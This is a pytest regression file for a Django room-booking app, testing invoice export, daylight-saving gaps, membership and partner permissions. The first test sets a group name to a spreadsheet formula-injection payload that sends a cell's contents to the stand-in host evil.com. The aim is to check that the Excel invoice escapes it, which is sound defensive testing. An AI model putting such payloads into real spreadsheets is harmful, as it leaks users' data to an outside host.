"""Rules a second review of room booking found broken (each test failed before its fix):
formula-safe invoices, the night the clocks go forward, former members, groups turned
down, requests whose time has passed, and an inactive partner's rooms."""

from __future__ import annotations

import io
from datetime import date, time
from decimal import Decimal
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from reisgezel.places.models import Room
from reisgezel.spaces.exports import invoice_xlsx
from reisgezel.spaces.models import BookableRoom, BookingGroup, GroupKind, GroupStatus, RoomRate
from reisgezel.spaces.selectors import invoice_for
from reisgezel.spaces.services import booking_request, series_request
from reisgezel.spaces.tests.conftest import NOW, at
from tests.factories import make_place, make_user

pytestmark = pytest.mark.django_db


def test_invoice_xlsx_group_name_is_not_a_formula(studio: BookableRoom) -> None:
    """A group's self-chosen name goes into cell A1 of the Excel invoice unescaped."""
    contact = make_user(username="formula")
    group = BookingGroup.objects.create(
        name='=HYPERLINK("http://evil.example/?"&B5,"Open")',
        kind=GroupKind.RESIDENT,
        contact=contact,
        status=GroupStatus.APPROVED,
    )
    booking_request(
        actor=contact,
        bookable=studio,
        group=group,
        starts_at=at(date(2027, 3, 2), 19),
        ends_at=at(date(2027, 3, 2), 20),
        title="Les",
        now=NOW,
    )
    invoice = invoice_for(group=group, first_day=date(2027, 3, 1), last_day=date(2027, 3, 31))
    sheet = load_workbook(io.BytesIO(invoice_xlsx(invoice).content)).active
    assert sheet["A1"].data_type != "f", sheet["A1"].value


@pytest.fixture
def night_room() -> BookableRoom:
    """A room in a house without opening hours entered: no time limit (docs/spaces.md)."""
    place = make_place(name="Nachtstudio", slug="nachtstudio")
    room = Room.objects.create(place=place, name="Studio N", slug="studio-n", capacity=10)
    bookable = BookableRoom.objects.create(room=room, slug="nachtstudio-n")
    RoomRate.objects.create(
        bookable=bookable, group_kind=GroupKind.ASSOCIATION, hourly_rate=Decimal("10.00")
    )
    return bookable


def test_booking_in_the_dst_gap_is_refused_with_a_message(night_room, choir, choir_member):
    """28 March 2027 02:30-03:30 local: 02:30 does not exist; both ends are 01:30 UTC.
    The service compares wall-clock times, then the database CHECK fails (a 500)."""
    with pytest.raises(ValidationError):
        booking_request(
            actor=choir_member,
            bookable=night_room,
            group=choir,
            starts_at=at(date(2027, 3, 28), 2, 30),
            ends_at=at(date(2027, 3, 28), 3, 30),
            title="Nachtrepetitie",
            now=NOW,
        )


def test_weekly_series_over_the_dst_gap_refuses_that_date(night_room, choir, choir_member):
    outcome = series_request(
        actor=choir_member,
        bookable=night_room,
        group=choir,
        title="Nachtrepetitie",
        weekday=6,  # Sunday
        start_time=time(2, 30),
        end_time=time(3, 30),
        first_date=date(2027, 3, 21),
        last_date=date(2027, 4, 4),
        now=NOW,
    )
    assert [p.day for p in outcome.refused] == [date(2027, 3, 28)]
    assert len(outcome.booked) == 2


# --- appended: authorisation and state -------------------------------------------------

from django.core.exceptions import PermissionDenied  # noqa: E402

from reisgezel.accounts.models import Membership  # noqa: E402
from reisgezel.spaces.models import BookingStatus  # noqa: E402
from reisgezel.spaces.selectors import bookings_for  # noqa: E402
from reisgezel.spaces.services import booking_cancel, booking_confirm, group_reject  # noqa: E402

TUESDAY = date(2027, 3, 9)


def tuesday_evening(actor: Any, bookable: Any, group: Any, title: str) -> Any:
    """A request for Tuesday 9 March 2027, 19:00-21:00."""
    return booking_request(
        actor=actor,
        bookable=bookable,
        group=group,
        starts_at=at(TUESDAY, 19),
        ends_at=at(TUESDAY, 21),
        title=title,
        now=NOW,
    )


def test_a_former_member_no_longer_acts_for_the_association(studio, choir, choir_member):
    """The contact of an association who has left it keeps seeing, cancelling (with a
    late fee billed to the association) and making its bookings."""
    booking = tuesday_evening(choir_member, studio, choir, "Repetitie")
    Membership.objects.filter(user=choir_member, organisation=choir.organisation).delete()
    assert booking not in bookings_for(choir_member)
    with pytest.raises(PermissionDenied):
        booking_cancel(actor=choir_member, booking=booking, now=at(TUESDAY, 12))


def test_rejecting_a_group_leaves_no_confirmed_booking_it_cannot_see(
    studio, new_group, resident, staff
):
    """Staff confirm one request of a new group (allowed), then turn the group down: the
    confirmed booking stays, holds the room and is invoiced, but the group's contact no
    longer sees it on "My bookings" (groups_of hides rejected groups) and hears nothing."""
    booking = tuesday_evening(resident, studio, new_group, "Schilderles")
    booking_confirm(actor=staff, booking=booking, now=NOW)
    with pytest.raises(ValidationError, match="cancel them first"):
        group_reject(actor=staff, group=new_group, reason="Geen bewoner.", now=NOW)
    new_group.refresh_from_db()
    assert new_group.status != GroupStatus.REJECTED
    assert booking in bookings_for(resident)


def test_a_request_whose_time_has_passed_cannot_be_confirmed(
    partner_room, choir, choir_member, partner_member
):
    """The partner confirms a request after its start: the group is billed in full for a
    slot it never knew it had (it lapses only in the nightly run)."""
    booking = tuesday_evening(choir_member, partner_room, choir, "Repetitie")
    with pytest.raises(ValidationError):
        booking_confirm(actor=partner_member, booking=booking, now=at(TUESDAY, 22))
    booking.refresh_from_db()
    assert booking.status == BookingStatus.PENDING


# --- appended: inactive partners ------------------------------------------------------
from reisgezel.spaces.selectors import rooms_invoiced_by  # noqa: E402


def test_staff_invoice_the_rooms_of_an_inactive_partner(
    partner, partner_room, choir, choir_member, staff
):
    """'Whoever answers a room invoices it': once the partner is inactive staff answer
    its room (permissions.can_answer_requests), yet nobody can invoice its bookings."""
    booking = tuesday_evening(choir_member, partner_room, choir, "Repetitie")
    partner.is_active = False
    partner.save()
    booking_confirm(actor=staff, booking=booking, now=NOW)
    invoice = invoice_for(
        group=choir,
        first_day=date(2027, 3, 1),
        last_day=date(2027, 3, 31),
        rooms=rooms_invoiced_by(staff),
    )
    assert invoice.total == Decimal("20.00")


def test_members_of_an_inactive_partner_are_not_mailed_requests(
    partner,
    partner_room,
    partner_member,
    choir,
    choir_member,
    mailoutbox,
    django_capture_on_commit_callbacks,
):
    """They cannot answer (inactive partners answer nothing), yet each request sends them
    the group's name and purpose with a link to a desk they cannot open."""
    partner.is_active = False
    partner.save()
    with django_capture_on_commit_callbacks(execute=True):
        booking_request(
            actor=choir_member,
            bookable=partner_room,
            group=choir,
            starts_at=at(TUESDAY, 19),
            ends_at=at(TUESDAY, 21),
            title="Repetitie",
            now=NOW,
        )
    assert [m for m in mailoutbox if partner_member.email in m.to] == []
